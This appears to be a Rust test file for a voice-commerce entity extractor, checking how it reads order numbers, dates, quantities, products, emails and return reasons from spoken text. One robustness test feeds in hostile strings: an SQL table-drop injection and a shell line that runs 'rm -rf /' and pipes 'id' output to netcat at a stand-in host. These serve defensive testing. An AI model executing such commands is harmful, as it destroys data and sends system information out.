//! Whole-utterance tests of [`extract`]: how the extractors combine, the JSON shape, and
//! robustness on hostile input. Each extractor's own cases live beside it.

use std::sync::OnceLock;

use proptest::prelude::*;

use super::*;
use chrono::NaiveDate;
use voxorder_store::demo::{catalog, Rng, DEMO_SEED};

fn now() -> NaiveDateTime {
    NaiveDate::from_ymd_opt(2026, 3, 10)
        .and_then(|d| d.and_hms_opt(10, 0, 0))
        .expect("valid")
}

fn matcher() -> &'static ProductMatcher {
    static M: OnceLock<ProductMatcher> = OnceLock::new();
    M.get_or_init(|| ProductMatcher::new(&catalog(&mut Rng::new(DEMO_SEED))))
}

fn ex_with(text: &str, expect: Option<EntityKind>) -> Entities {
    let ctx = EntityContext {
        now: now(),
        products: Some(matcher()),
        expect,

        buying: false,
    };
    extract(text, &ctx)
}

fn ex(text: &str) -> Entities {
    ex_with(text, None)
}

fn json(text: &str) -> String {
    serde_json::to_string(&ex(text)).expect("serialises")
}

fn date(s: &str) -> Option<NaiveDate> {
    NaiveDate::parse_from_str(s, "%Y-%m-%d").ok()
}

#[test]
fn serialises_only_present_entities_with_design_names() {
    assert_eq!(json("hello there"), "{}");
    assert_eq!(
        json("move order 4412 8873 to the 17th in the afternoon"),
        r#"{"order_number":"44128873","date":"2026-03-17","time_slot":"afternoon"}"#
    );
    assert_eq!(
        json("cancel order 1234567891234 i found it cheaper"),
        r#"{"order_number":"1234567891234","cancel_reason":"found_cheaper"}"#
    );
    let back: Entities =
        serde_json::from_str(r#"{"quantity":2,"refund_method":"store_credit"}"#).expect("parses");
    assert_eq!(back.quantity, Some(2));
    assert_eq!(back.refund_method, Some(RefundMethod::StoreCredit));
    assert_eq!(
        serde_json::to_string(&EntityKind::FrequencyDays).expect("serialises"),
        "\"frequency_days\""
    );
}

#[test]
fn orders_with_quantities_and_products() {
    let e = ex("can i get two bags of coffee beans");
    assert_eq!(e.quantity, Some(2));
    assert_eq!(e.product.as_deref(), Some("COF-BEAN-500G"));
    assert_eq!(e.order_number, None);

    let e = ex("i need a couple of navy t shirts in medium");
    assert_eq!(
        (e.quantity, e.product.as_deref()),
        (Some(2), Some("TEE-NAVY-M"))
    );

    let e = ex("buy a hoodie in large");
    assert_eq!(e.quantity, Some(1));
    assert_eq!(e.product.as_deref(), Some("HOOD-BLACK-L"));

    let e = ex("get me half a dozen coffee pods");
    assert_eq!(
        (e.quantity, e.product.as_deref()),
        (Some(6), Some("COF-POD"))
    );

    let e = ex(
        "order one two three four five six seven eight nine one two three four two bags of coffee",
    );
    assert_eq!(e.order_number.as_deref(), Some("1234567891234"));
    assert_eq!(e.quantity, Some(2));

    let e = ex("i'll take that one");
    assert_eq!(e.quantity, None);
}

#[test]
fn identifiers_in_context() {
    let e = ex("it's um one two three four five six seven eight nine one two three four");
    assert_eq!(e.order_number.as_deref(), Some("1234567891234"));
    assert_eq!(e.quantity, None);

    let e = ex_with("seven eight seven oh one", Some(EntityKind::ZipCode));
    assert_eq!(e.zip_code.as_deref(), Some("78701"));
    assert_eq!(e.order_number, None);

    let e = ex("my phone number is five one two five five five oh one nine nine");
    assert_eq!(e.phone_number.as_deref(), Some("5125550199"));

    let e = ex("order double five two oh nine can you move it to next week");
    assert_eq!(e.order_number.as_deref(), Some("55209"));
    assert_eq!(e.date, date("2026-03-16"));
}

#[test]
fn emails_keep_their_digits_out_of_identifiers() {
    let e = ex("my email is john.smith@example.com and the order is 1234 5678 9012");
    assert_eq!(e.email.as_deref(), Some("john.smith@example.com"));
    assert_eq!(e.order_number.as_deref(), Some("123456789012"));

    let e = ex("it's jane underscore doe 1990 at gmail dot com");
    assert_eq!(e.email.as_deref(), Some("jane_doe1990@gmail.com"));
    assert_eq!(e.order_number, None);
    assert_eq!(e.quantity, None);
}

#[test]
fn scheduling_utterances() {
    let e = ex("reschedule it to thursday afternoon");
    assert_eq!(
        (e.date, e.time_slot),
        (date("2026-03-12"), Some(TimeSlot::Afternoon))
    );
    let e =
        ex("hiya my groceries are coming at 8 tonight can you make it tomorrow morning instead");
    assert_eq!(e.date, date("2026-03-11"));
    // "After" a day is the day after it.
    assert_eq!(ex("any day after the 20th").date, date("2026-03-21"));
    assert_eq!(
        ex("i'm away until the 20th, can it come after that").date,
        date("2026-03-21")
    );
    assert_eq!(ex("deliver it on the 20th").date, date("2026-03-20"));
    assert_eq!(e.quantity, None);
    let e = ex("reschedule the delivery for order nine nine eight seven six in three days");
    assert_eq!(e.order_number.as_deref(), Some("99876"));
    assert_eq!(e.date, date("2026-03-13"));
    let e = ex("deliver it after 6 on friday");
    assert_eq!(
        (e.date, e.time_slot, e.quantity),
        (date("2026-03-13"), Some(TimeSlot::Evening), None)
    );
}

#[test]
fn subscription_utterances() {
    let e = ex("i want to subscribe to coffee beans every two weeks");
    assert_eq!(e.frequency_days, Some(14));
    assert_eq!(e.product.as_deref(), Some("COF-BEAN-500G"));
    assert_eq!(e.quantity, None);
    let e = ex("send me a bag of dog food every month");
    assert_eq!((e.frequency_days, e.quantity), (Some(30), Some(1)));
    assert_eq!(e.product.as_deref(), Some("DOG-KIB-6KG"));
}

#[test]
fn returns_and_refunds() {
    let e = ex("the jacket doesn't fit i want to return it and get store credit");
    assert_eq!(e.return_reason, Some(ReturnReason::SizeIssue));
    assert_eq!(e.cancel_reason, None);
    assert_eq!(e.refund_method, Some(RefundMethod::StoreCredit));
    let e = ex("cancel my order it's taking too long");
    assert_eq!(e.cancel_reason, Some(CancelReason::DeliveryTooSlow));
    assert_eq!(e.return_reason, None);
    // A change of mind is said the same way of a cancellation and a return: the cue
    // decides which it is.
    let e = ex("i don't want it anymore please cancel it");
    assert_eq!(e.cancel_reason, Some(CancelReason::ChangedMind));
    assert_eq!(e.return_reason, None);
    let e = ex("i don't want it anymore i'd like to send it back");
    assert_eq!(e.return_reason, Some(ReturnReason::ChangedMind));
    assert_eq!(e.cancel_reason, None);
}

#[test]
fn reasons_and_refunds_in_everyday_words() {
    use ReturnReason::*;
    for (said, want) in [
        ("the seams came apart after the first wash", QualityIssue),
        ("the scarf went all bobbly straight away", QualityIssue),
        ("it's advertised as waterproof but it isn't", NotAsDescribed),
        ("i ordered decaf and you sent regular", WrongItem),
        ("the boots in the box are two different colours", WrongItem),
        ("the pair is mismatched, one brown one tan", WrongItem),
    ] {
        let e = ex(said);
        assert_eq!(e.return_reason, Some(want), "{said}");
        assert_eq!(e.date, None, "{said}");
    }
    for (said, want) in [
        (
            "they have it for ten pounds less down the road",
            CancelReason::FoundCheaper,
        ),
        ("we decided not to bother", CancelReason::ChangedMind),
        (
            "i ordered the king instead of the double",
            CancelReason::WrongItem,
        ),
        (
            "five days shipping is too long",
            CancelReason::DeliveryTooSlow,
        ),
    ] {
        assert_eq!(ex(said).cancel_reason, Some(want), "{said}");
    }
    for (said, want) in [
        ("just give me a voucher", RefundMethod::StoreCredit),
        (
            "wire it, i can give you my sort code",
            RefundMethod::BankTransfer,
        ),
        (
            "back where it came from please",
            RefundMethod::OriginalPayment,
        ),
    ] {
        assert_eq!(ex(said).refund_method, Some(want), "{said}");
    }
}

#[test]
fn a_refund_gift_card_is_not_a_product() {
    let e = ex("return it and put the money on a gift card");
    assert_eq!(e.refund_method, Some(RefundMethod::StoreCredit));
    assert_eq!((e.product, e.quantity), (None, None));
    let e = ex("i want to buy a gift card for my mum");
    assert_eq!(e.product.as_deref(), Some("GC-25"));
    assert_eq!(e.refund_method, None);
}

#[test]
fn without_a_catalog_there_is_no_product() {
    let ctx = EntityContext::new(now());
    let e = extract("two navy tees in medium", &ctx);
    assert_eq!(e.product, None);
    assert_eq!(e.quantity, Some(2));
}

#[test]
fn hostile_input_is_harmless() {
    for s in [
        "",
        " \t\n ",
        "'; drop table orders; --",
        "$(rm -rf /) && echo `id` | nc evil 1234",
        "\u{1F600}\u{1F4E6}\u{1F680}",
        "\0\0\0",
        "@@@ at at at dot dot dot",
        "double double triple oh oh oh",
        "the the the of of of a a a",
        "\u{202E}mirrored\u{202C} text",
        "１２３４５６",
    ] {
        let e = ex(s);
        assert!(
            e.order_number.is_none() && e.email.is_none() && e.product.is_none(),
            "{s:?}: {e:?}"
        );
    }
}

#[test]
fn a_hundred_kilobytes_is_fine() {
    let chunk = "i want two bags of coffee beans every two weeks um order one two three four five six seven eight nine one two three four on friday at jane dot doe at gmail dot com ";
    let text: String = chunk.repeat(100_000 / chunk.len() + 1);
    assert!(text.len() >= 100_000);
    let e = ex(&text);
    assert_eq!(e.quantity, Some(2));
    assert_eq!(e.frequency_days, Some(14));
    assert_eq!(e.email.as_deref(), Some("jane.doe@gmail.com"));
    let digits = "7".repeat(100_000);
    assert_eq!(ex(&digits), Entities::default());
    let words = "seven ".repeat(20_000);
    assert_eq!(ex(&words).order_number, None);
}

proptest! {
    #[test]
    fn never_panics_on_arbitrary_text(s in "\\PC{0,200}") {
        let _ = ex(&s);
    }

    #[test]
    fn never_panics_on_word_salad(words in proptest::collection::vec(prop_oneof![
        Just("one"), Just("oh"), Just("double"), Just("twenty"), Just("hundred"), Just("a"),
        Just("dozen"), Just("at"), Just("dot"), Just("com"), Just("the"), Just("20th"),
        Just("of"), Just("march"), Just("next"), Just("friday"), Just("week"), Just("every"),
        Just("in"), Just("days"), Just("not"), Just("zip"), Just("order"), Just("3/20"),
        Just("bags"), Just("coffee"), Just("hoodie"), Just("large"), Just("cancel"),
        Just("broken"), Just("12"), Just("999999999999"), Just("am"), Just("after"),
    ], 0..40)) {
        let text = words.join(" ");
        let e = ex(&text);
        if let Some(d) = e.date {
            let today = now().date();
            prop_assert!(d >= today - chrono::Duration::days(800));
            prop_assert!(d <= today + chrono::Duration::days(1100));
        }
        if let Some(o) = &e.order_number {
            prop_assert!(o.bytes().all(|b| b.is_ascii_digit()) && (4..=20).contains(&o.len()));
        }
        if let Some(z) = &e.zip_code {
            prop_assert_eq!(z.len(), 5);
        }
    }

    #[test]
    fn spoken_order_numbers_round_trip(digits in "[1-9][0-9]{12}") {
        const NAMES: [&str; 10] = ["oh", "one", "two", "three", "four", "five", "six", "seven", "eight", "nine"];
        let spoken: Vec<&str> = digits.bytes().map(|b| NAMES[usize::from(b - b'0')]).collect();
        let e = ex(&format!("my order number is {}", spoken.join(" ")));
        prop_assert_eq!(e.order_number, Some(digits));
    }
}

#[test]
fn return_reasons_said_many_ways() {
    use ReturnReason::*;
    let cases: &[(&str, ReturnReason)] = &[
        ("i want to return the hoodie it's too small", SizeIssue),
        (
            "the jeans are a bit snug so i'm sending them back",
            SizeIssue,
        ),
        ("return the sneakers they pinch my toes", SizeIssue),
        (
            "i'd like to return the tee it's way too big on me",
            SizeIssue,
        ),
        ("the jacket doesn't fit me so i want a refund", SizeIssue),
        (
            "sending the cardigan back the sleeves are too short",
            SizeIssue,
        ),
        ("return them i need a size up", SizeIssue),
        (
            "the trainers came up small i want to return them",
            SizeIssue,
        ),
        ("the hoodie's the wrong size i'm sending it back", SizeIssue),
        (
            "it's too tight round the waist i want to return it",
            SizeIssue,
        ),
        (
            "the shoes are half a size too small return please",
            SizeIssue,
        ),
        (
            "i want to return the towel it's the wrong colour",
            WrongItem,
        ),
        ("you sent the wrong colour i'm returning it", WrongItem),
        ("return the mug i got the wrong one", WrongItem),
        (
            "i ordered black and got navy i want to send it back",
            WrongItem,
        ),
        ("return it it's not as pictured", NotAsDescribed),
        (
            "the lamp doesn't look anything like the photos i'm returning it",
            NotAsDescribed,
        ),
        (
            "the colour is nothing like on the website so i'm sending it back",
            NotAsDescribed,
        ),
        (
            "it's much smaller than it looked online i want a refund",
            NotAsDescribed,
        ),
        (
            "return the sheets they're not what was described",
            NotAsDescribed,
        ),
        (
            "the candle isn't like the description i'd like to return it",
            NotAsDescribed,
        ),
        (
            "i want to return it it's not what i thought it would be",
            NotAsDescribed,
        ),
        (
            "i changed my mind i want to return the speaker",
            ChangedMind,
        ),
        ("i don't need it anymore can i return it", ChangedMind),
        (
            "i'd like to return the skillet i just don't want it now",
            ChangedMind,
        ),
        (
            "return the pillow it arrived too late for my trip",
            ChangedMind,
        ),
        (
            "it came after the party so i'm sending it back",
            ChangedMind,
        ),
        (
            "it turned up late and i don't need it now return it",
            ChangedMind,
        ),
        (
            "i bought two by accident so i want to return one",
            ChangedMind,
        ),
        (
            "i ended up with two of them can i send one back",
            ChangedMind,
        ),
        (
            "i ordered the same thing twice i'll return the extra one",
            ChangedMind,
        ),
        (
            "it was a gift and she didn't like it i'd like to return it",
            ChangedMind,
        ),
        (
            "my son got it as a present and doesn't want it can i return it",
            ChangedMind,
        ),
        ("it's an unwanted present i'd like a refund", ChangedMind),
        ("he already has one so i'm sending it back", ChangedMind),
        (
            "i found it cheaper elsewhere so i'm returning it",
            ChangedMind,
        ),
        ("return it i don't like the colour", ChangedMind),
        ("i just don't like it i want to return it", ChangedMind),
        ("the quality is poor i want to return it", QualityIssue),
        ("return the headphones they're rubbish", QualityIssue),
        (
            "the sheets feel really thin and scratchy i'm sending them back",
            QualityIssue,
        ),
        (
            "the tee went see through after one wash return it",
            QualityIssue,
        ),
        (
            "the speaker stopped working after two days i want to return it",
            QualityIssue,
        ),
        ("the seams are coming apart i want a refund", QualityIssue),
        (
            "the charger gets really hot i want to return it",
            QualityIssue,
        ),
        ("it's cheap rubbish i want my money back", QualityIssue),
        ("the knife went blunt straight away return it", QualityIssue),
        ("return the lamp it arrived damaged", Damaged),
        ("the mug's chipped i want to return it", Damaged),
        (
            "the box was soaked and the towels are ruined return them",
            Damaged,
        ),
        ("the screen is cracked i'm sending it back", Damaged),
        (
            "the skillet came with a big scratch on it i want a refund",
            Damaged,
        ),
        (
            "the bottle arrived with a dent i want to return it",
            Damaged,
        ),
        ("return it the glass was smashed when it got here", Damaged),
    ];
    let mut wrong = Vec::new();
    for &(text, want) in cases {
        let got = ex(text).return_reason;
        if got != Some(want) {
            wrong.push((text, want, got));
        }
    }
    assert!(
        wrong.is_empty(),
        "{} of {}: {wrong:#?}",
        wrong.len(),
        cases.len()
    );
}

#[test]
fn quantities_said_many_ways() {
    let cases: &[(&str, Option<u32>)] = &[
        ("i'd like two hoodies", Some(2)),
        (
            "reorder the dog food, but the smaller 6 kilo bag this time",
            None,
        ),
        (
            "one bag of the chicken and rice dog food, the 6 kg bag",
            Some(1),
        ),
        ("two kilos of the coffee beans", Some(2)),
        ("can i get 3 of the classic tees", Some(3)),
        ("four bath towels please", Some(4)),
        ("order 12 rolls of toilet paper", Some(12)),
        ("i want twenty four cans of cat food", Some(24)),
        ("i'll have another two", Some(2)),
        ("another two bags of coffee beans please", Some(2)),
        ("can you add another three soy candles", Some(3)),
        ("just the one please", Some(1)),
        ("only the one hoodie thanks", Some(1)),
        ("just the one", Some(1)),
        ("three more of the soy candles", Some(3)),
        ("make that three more", Some(3)),
        ("i need a couple more bath towels", Some(2)),
        ("two more please", Some(2)),
        ("a pair of the everyday sneakers", Some(2)),
        ("i'll take a pair", Some(2)),
        ("a couple of bath towels", Some(2)),
        ("a couple please", Some(2)),
        ("half a dozen soy candles", Some(6)),
        ("a dozen coffee pods", Some(12)),
        ("buy me a dozen", Some(12)),
        ("two please", Some(2)),
        ("um five please", Some(5)),
        ("i'll go for two", Some(2)),
        ("can i have three", Some(3)),
        ("i'd like to order six", Some(6)),
        ("a single usb c cable", Some(1)),
        ("one hoodie in large", Some(1)),
        ("i want 2 usb c cables", Some(2)),
        ("a few soy candles", None),
        ("a few of the mugs please", None),
        ("i'd like a few", None),
        ("some coffee pods please", None),
        ("several bath towels", None),
        ("one more thing can you check my order", None),
        ("one more time please", None),
        ("i ordered it a few days ago", None),
        ("three more days", None),
        ("another thing i wanted to ask", None),
        ("option two please", None),
    ];
    let mut wrong = Vec::new();
    for &(text, want) in cases {
        let got = ex(text).quantity;
        if got != want {
            wrong.push((text, want, got));
        }
    }
    assert!(
        wrong.is_empty(),
        "{} of {}: {wrong:#?}",
        wrong.len(),
        cases.len()
    );
}

#[test]
fn a_zip_typed_after_the_order_number_asked_for_is_a_zip() {
    let e = ex_with("1000000000028 02139", Some(EntityKind::OrderNumber));
    assert_eq!(e.order_number.as_deref(), Some("1000000000028"));
    assert_eq!(e.zip_code.as_deref(), Some("02139"));
}

#[test]
fn products_of_several_kinds_bought_together_are_each_kept_with_their_count() {
    let buying = |text: &str| {
        let ctx = EntityContext {
            now: now(),
            products: Some(matcher()),
            expect: None,
            buying: true,
        };
        extract(text, &ctx)
    };
    let e = buying("can i get two usb-c cables, one metre, and a 65 watt charger");
    assert_eq!(e.product.as_deref(), Some("CBL-USBC-1M"));
    assert_eq!(e.quantity, Some(2));
    let more: Vec<(&str, Option<u32>)> = e
        .more_products
        .iter()
        .map(|p| (p.sku.as_str(), p.quantity))
        .collect();
    assert_eq!(more, [("CHG-65W", Some(1))]);
    // A comma joins products as "and" does.
    let e = buying("can I order a bag of cat litter, a cast iron skillet and a box of dog dental treats please");
    assert_eq!(e.product.as_deref(), Some("CAT-LIT"));
    let more: Vec<&str> = e.more_products.iter().map(|p| p.sku.as_str()).collect();
    assert_eq!(more, ["PAN", "DOG-TRT"]);
    // A pack counted by its size is the product's, not a backpack ("bag").
    let e = buying("the green tea, the hundred bag boxes. three boxes please, and next day");
    assert_eq!(e.product.as_deref(), Some("TEA-GRN"));
    assert!(e.more_products.is_empty(), "{:?}", e.more_products);
    // One kind described twice, or a product set aside, is one product.
    assert!(buying("a black hoodie, and make it a large")
        .more_products
        .is_empty());
    assert!(buying("a wireless keyboard and not the mouse")
        .more_products
        .is_empty());
    // Not buying: the request is about one product, as before.
    assert!(ex("the keyboard and the power bank arrived broken")
        .more_products
        .is_empty());
}

#[test]
fn a_count_of_some_of_them_is_the_count_asked_about() {
    assert_eq!(
        ex("i ordered three grey tees but i only need one, can i return two of them?").quantity,
        Some(2)
    );
    assert_eq!(ex("one of those arrived broken").quantity, Some(1));
}

/// "to" just before a phrase (or a determiner) sends something there; further back it
/// belongs to a wish ("I'd like to book …").
#[test]
fn a_phrase_after_a_wish_names_what_is_wanted() {
    assert!(names_elsewhere("I'd love to book a haircut for Friday"));
    assert!(names_elsewhere("can I get a tattoo done"));
    assert!(!names_elsewhere(
        "please bring it to the salon where I work"
    ));
    assert!(!names_elsewhere("could you drop it to my barber instead"));
}

/// A business named after "at the", or with the kind of business before its noun.
#[test]
fn a_business_named_after_a_determiner_or_a_kind() {
    assert!(names_another_business(
        "swap the trainers I picked up at the Adidas shop"
    ));
    assert!(names_another_business(
        "move my Waitrose food delivery to Friday"
    ));
    assert!(names_another_business(
        "cancel what I ordered from the Boots pharmacy app"
    ));
    assert!(!names_another_business(
        "I bought it at the weekend, can I send it back"
    ));
    assert!(!names_another_business(
        "cancel the order I placed on Monday"
    ));
}

/// A chain named in lower case, as a recogniser writes it, is another shop; a maker is
/// one only when named as a shop; a price compared with either is ours to answer.
#[test]
fn another_shop_by_its_name() {
    assert!(names_another_shop("move my sainsburys delivery to friday"));
    assert!(names_another_shop(
        "swap the top i got in uniqlo for a medium"
    ));
    assert!(names_another_shop("send the trainers back to puma online"));
    assert!(!names_another_shop(
        "my puma trainers have split at the toe"
    ));
    assert!(!names_another_shop(
        "uniqlo has the same jumper for less, cancel mine"
    ));
    assert!(!names_another_shop("cancel the hoodie order"));
    assert!(names_another_shop("has my ebay parcel been posted"));
    // Set aside, or compared for price, a shop named is not the one meant; nor is it
    // another business's matter then.
    assert!(!names_another_shop(
        "where is my order, not the amazon one, the one from you"
    ));
    assert!(!names_elsewhere("cancel my order i saw it cheaper at zara"));
    assert!(names_elsewhere(
        "has the refund from my energy company gone in"
    ));
}

/// Of two emails, the last is meant when the caller takes the first back or calls the
/// last the new one.
#[test]
fn the_email_meant_of_two() {
    let ctx = EntityContext {
        now: now(),
        products: None,
        expect: None,
        buying: false,
    };
    let email = |s: &str| extract(s, &ctx).email;
    assert_eq!(
        email("ann at mail dot com, sorry, ann two at mail dot com").as_deref(),
        Some("ann2@mail.com")
    );
    assert_eq!(
        email("it used to be bo at aol dot com but the new one is bo dot ray at gmail dot com")
            .as_deref(),
        Some("bo.ray@gmail.com")
    );
    assert_eq!(
        email("send it to ann at mail dot com and copy bo at mail dot com").as_deref(),
        Some("ann@mail.com")
    );
}

/// A subscription to another business is that business's; the place a parcel is sent
/// to is not.
#[test]
fn a_subscription_to_another_business_is_elsewhere() {
    assert!(names_elsewhere(
        "subscription to the wine club, cancel it please"
    ));
    assert!(names_elsewhere("i signed up to the wine club, cancel it"));
    assert!(!names_elsewhere("send it to my gym's front desk"));
}

/// Another business's service acted on names its own day; one told around a delivery
/// does not.
#[test]
fn a_service_acted_on_is_elsewhere_whatever_day_it_names() {
    assert!(acts_on_elsewhere("reschedule the movers to next week"));
    assert!(acts_on_elsewhere("can you move my dentist to friday"));
    assert!(!acts_on_elsewhere(
        "i've a dentist appointment when my parcel's due, can it come another day"
    ));
    assert!(!acts_on_elsewhere("move the delivery to friday please"));
}

/// The words a return's reason is read from leave out where the refund goes, and only
/// that.
#[test]
fn a_reason_story_leaves_out_the_refund_way() {
    assert_eq!(
        reason_story("the lights came after christmas. I want to return them and get the money back on my card")
            .as_deref(),
        Some("the lights came after christmas. I want to return them")
    );
    assert_eq!(
        reason_story(
            "can i have the refund as store credit i'm returning the jumper i didn't like"
        )
        .as_deref(),
        Some("can i have the refund i am returning the jumper i did not like")
    );
    assert_eq!(
        reason_story("the lamp looks nothing like the photos, return it"),
        None
    );
    assert_eq!(reason_story("store credit please"), None);
}

#[test]
fn a_count_before_a_priced_gift_card() {
    for text in [
        "i want two 200 dollar gift cards",
        "two $50 gift cards please",
        "i want two two hundred dollar gift cards",
    ] {
        let e = ex(text);
        assert_eq!(e.quantity, Some(2), "{text}");
    }
}
